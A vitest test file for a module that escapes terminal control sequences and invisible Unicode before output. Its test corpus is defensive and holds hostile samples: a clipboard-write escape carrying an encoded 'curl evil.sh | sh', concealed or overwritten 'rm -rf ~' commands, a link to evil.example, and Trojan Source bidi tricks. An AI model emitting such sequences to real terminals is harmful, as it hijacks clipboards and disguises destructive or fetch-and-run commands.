import { describe, expect, it } from "vitest";
import {
  createTerminalSafeStream,
  needsEscaping,
  toTerminalSafe,
  toTerminalSafeJson,
  toTerminalSafeLine,
  toTerminalSafeLineCut,
} from "./terminal-safe.js";

const ESC = "\x1b";
const BIDI = [
  0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069,
];

/**
 * The characters in `text` that a terminal acts on or that hide or reorder text, by a
 * definition written independently of the module: C0 except line feed and tab, DEL, C1,
 * bidirectional controls, line and paragraph separators, Unicode format characters (Cf).
 */
function dangerous(text: string, allowTab = true): string[] {
  const found: string[] = [];
  for (const character of text) {
    const code = character.codePointAt(0) ?? 0;
    const control = (code < 0x20 && code !== 0x0a && !(allowTab && code === 0x09)) || code === 0x7f;
    const c1 = code >= 0x80 && code <= 0x9f;
    if (
      control ||
      c1 ||
      BIDI.includes(code) ||
      code === 0x2028 ||
      code === 0x2029 ||
      /\p{Cf}/u.test(character)
    )
      found.push(`U+${code.toString(16).padStart(4, "0")}`);
  }
  return found;
}

/** Hostile text a model can send, with the escape each must show. */
const CORPUS: readonly (readonly [name: string, text: string, visible: string])[] = [
  ["OSC 52 clipboard write", `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07`, "\\x1b]52;c;"],
  ["OSC 0 title", `${ESC}]0;owned\x07`, "\\x1b]0;owned\\x07"],
  ["OSC 2 title ended by ST", `${ESC}]2;owned${ESC}\\`, "\\x1b]2;owned\\x1b\\"],
  ["clear screen", `${ESC}[2J${ESC}[H`, "\\x1b[2J\\x1b[H"],
  ["cursor up and erase line", `ok${ESC}[1A${ESC}[2K`, "\\x1b[1A\\x1b[2K"],
  ["cursor position", `${ESC}[10;1Hfake prompt`, "\\x1b[10;1H"],
  ["save and restore cursor", `${ESC}7x${ESC}8`, "\\x1b7x\\x1b8"],
  [
    "OSC 8 hyperlink",
    `${ESC}]8;;https://evil.example${ESC}\\docs${ESC}]8;;${ESC}\\`,
    "\\x1b]8;;https://evil.example",
  ],
  ["concealed text (SGR 8)", `ls${ESC}[8m; rm -rf ~${ESC}[28m`, "\\x1b[8m"],
  ["8-bit CSI", "\u009b2J", "\\x9b2J"],
  ["8-bit OSC and ST", "\u009d0;title\u009c", "\\x9d0;title\\x9c"],
  ["next line (C1 NEL)", "a\u0085b", "\\x85"],
  ["backspaces", "rm -rf ~\b\b\b\b\b\b\b\bls -la  ", "\\b\\b"],
  ["carriage return", "bash setup.sh #\rls -la", "#\\rls"],
  [
    "bell, NUL, vertical tab, form feed, DEL",
    "a\x07b\x00c\x0bd\x0ce\x7f",
    "a\\x07b\\x00c\\vd\\fe\\x7f",
  ],
  ["right-to-left override (Trojan Source)", "access\u202e } \u2066// admin\u2069", "\\u202e"],
  ["left-to-right and pop", "\u202aa\u202bb\u202cc\u202dd", "\\u202a"],
  ["isolates", "\u2066a\u2067b\u2068c\u2069", "\\u2066a\\u2067b\\u2068c\\u2069"],
  ["marks", "\u200ea\u200fb\u061cc", "\\u200ea\\u200fb\\u061cc"],
  ["zero-width space and joiners", "r\u200bm -\u200crf\u200d", "r\\u200bm"],
  ["word joiner and BOM", "a\u2060b\ufeffc", "a\\u2060b\\ufeffc"],
  ["soft hyphen and Mongolian separator", "a\u00adb\u180ec", "a\\xadb\\u180ec"],
  ["invisible tag characters", "hi\u{e0041}\u{e0042}", "\\u{e0041}\\u{e0042}"],
  ["Hangul filler", "a\u3164b", "a\\u3164b"],
  ["line and paragraph separators", "a\u2028b\u2029c", "a\\u2028b\\u2029c"],
];

describe("toTerminalSafe", () => {
  it.each(CORPUS)("shows %s as a visible escape", (_name, text, visible) => {
    const safe = toTerminalSafe(text);
    expect(dangerous(safe)).toEqual([]);
    expect(safe).not.toContain(ESC);
    expect(safe).toContain(visible);
  });

  it.each(CORPUS)("escapes %s on one line and strictly too", (_name, text) => {
    expect(dangerous(toTerminalSafeLine(text), false)).toEqual([]);
    expect(dangerous(toTerminalSafe(text, { strict: true }))).toEqual([]);
  });

  it("leaves ordinary text alone: newlines, tabs, accents, CJK, emoji and joined emoji", () => {
    const text =
      "Résumé:\n\tnaïve café 日本語 👍🏽 ❤️ 🇫🇷\nfamily 👨\u200d👩\u200d👧 and 🏳️\u200d🌈 and 👩🏽\u200d💻";
    expect(toTerminalSafe(text)).toBe(text);
    expect(needsEscaping(text)).toBe(false);
  });

  it("escapes a zero-width joiner that does not join two emoji", () => {
    expect(toTerminalSafe("a\u200db")).toBe("a\\u200db");
    expect(toTerminalSafe("👍\u200db")).toBe("👍\\u200db");
    expect(toTerminalSafe("\u200d👍")).toBe("\\u200d👍");
  });

  it("escapes newlines and tabs on one line", () => {
    expect(toTerminalSafeLine("a\nb\tc")).toBe("a\\nb\\tc");
  });

  it("in strict mode also shows unusual spaces, variation selectors and marks on ASCII", () => {
    const text = "rm\u00a0-rf\u2003x\ufe00 e\u0301 \u0338= ❤️";
    expect(toTerminalSafe(text)).toBe(text);
    expect(toTerminalSafe(text, { strict: true })).toBe(
      "rm\\xa0-rf\\u2003x\\ufe00 e\\u0301 \\u0338= ❤️",
    );
  });

  it("styles each escape with the mark, and nothing else", () => {
    expect(toTerminalSafe("a\x1b[2Jb", { mark: (escape) => `<${escape}>` })).toBe("a<\\x1b>[2Jb");
  });
});

describe("createTerminalSafeStream", () => {
  it("cannot assemble an escape sequence split across pieces", () => {
    const stream = createTerminalSafeStream();
    const pieces = ["clean ", ESC, "[2J", "\x1b]0;ti", "tle\x07", "\u009b", "2J"];
    const out = pieces.map((piece) => stream.write(piece)).join("") + stream.end();
    expect(out).toBe("clean \\x1b[2J\\x1b]0;title\\x07\\x9b2J");
    expect(dangerous(out)).toEqual([]);
  });

  it("keeps an emoji joined across pieces, and escapes a joiner that joins nothing", () => {
    const stream = createTerminalSafeStream();
    const joined = ["👨", "\u200d", "👩", "\u200d"].map((piece) => stream.write(piece)).join("");
    expect(joined + stream.write("👧")).toBe("👨\u200d👩\u200d👧");
    expect(stream.write("x\u200d") + stream.end()).toBe("x\\u200d");
  });

  it("keeps a surrogate pair split across pieces whole", () => {
    const stream = createTerminalSafeStream();
    const thumbs = "👍";
    expect(stream.write(`ok ${thumbs[0] ?? ""}`) + stream.write(thumbs[1] ?? "")).toBe("ok 👍");
  });
});

describe("toTerminalSafeJson", () => {
  it("escapes what JSON leaves raw and parses back to the same value", () => {
    const value = {
      text: `\u009b2J \u202eevil\u202c a\u2028b \x7f ${ESC}]52;c;x\x07 ok é`,
      n: 1,
    };
    const json = toTerminalSafeJson(value);
    expect(dangerous(json)).toEqual([]);
    expect(json).toContain("\\u009b2J \\u202eevil\\u202c a\\u2028b \\u007f \\u001b]52;c;x\\u0007");
    expect(json).toContain("ok é");
    expect(JSON.parse(json)).toEqual(value);
  });

  it("keeps joined emoji and escapes a stray joiner", () => {
    const value = { text: "👨\u200d👩 a\u200db" };
    const json = toTerminalSafeJson(value);
    expect(json).toBe('{"text":"👨\u200d👩 a\\u200db"}');
    expect(JSON.parse(json)).toEqual(value);
  });

  it("keeps pretty-printed JSON's own newlines", () => {
    expect(toTerminalSafeJson({ a: 1 }, 2)).toBe('{\n  "a": 1\n}');
  });
});

describe("toTerminalSafeLineCut", () => {
  it("cuts at the limit without splitting an escape", () => {
    expect(toTerminalSafeLineCut("abcdef", 6)).toBe("abcdef");
    expect(toTerminalSafeLineCut("abcdefg", 6)).toBe("abcde…");
    expect(toTerminalSafeLineCut(`abc${ESC}[2J`, 6)).toBe("abc…");
  });
});
